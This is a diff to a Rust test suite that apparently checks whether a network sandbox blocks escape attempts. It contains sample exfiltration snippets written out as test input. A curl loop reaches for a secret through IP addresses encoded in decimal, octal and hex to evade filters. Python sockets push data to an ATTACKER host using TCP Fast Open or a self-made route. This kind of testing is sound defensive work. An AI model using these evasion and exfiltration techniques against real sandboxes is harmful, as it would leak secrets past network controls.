@@ -33,7 +33,7 @@ fn an_address_instead_of_a_name_over_http() {
         // As browsers read it: decimal, octal, hexadecimal, short.
         inside.tries_sh(
             "echo tried; for a in 755630658 0x2d0a0242 055.012.002.0102 45.10.578; do \
-             curl -s --max-time 5 http://$a/k8e-secret && echo ESCAPED; done; true",
+             curl -sf --max-time 5 http://$a/k8e-secret && echo ESCAPED; done; true",
         );
         inside.assert_denied(json!({ "address": ATTACKER.to_string(), "port": 80 }));
     });
@@ -266,7 +266,7 @@ fn data_in_the_first_packet() {
             "for a, port in ('{ATTACKER}', 80), ('{ATTACKER}', 443), ('{METADATA}', 80), ('{HOST}', 7777):\n    \
              tried(a)\n    \
              s = socket.socket(); s.settimeout(1)\n    \
-             try:\n        s.sendto(get('{ATTACKER}'), socket.MSG_FASTOPEN, (a, port)); s.recv(100) and escaped(a)\n    \
+             try:\n        s.sendto(get('{ATTACKER}'), socket.MSG_FASTOPEN, (a, port)); refused(s.recv(100)) or escaped(a)\n    \
              except OSError: pass"
         ));
     });
@@ -281,7 +281,7 @@ fn a_route_of_ones_own() {
              for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM:\n    \
              tried(kind)\n    \
              s = socket.socket(socket.AF_INET, kind); s.settimeout(1)\n    \
-             try:\n        route(s); s.connect(('{CDN}', 443)); s.send(SECRET); s.recv(100) and escaped()\n    \
+             try:\n        route(s); s.connect(('{CDN}', 443)); s.send(SECRET); refused(s.recv(100)) or escaped()\n    \
              except OSError: pass"
         ));
     });
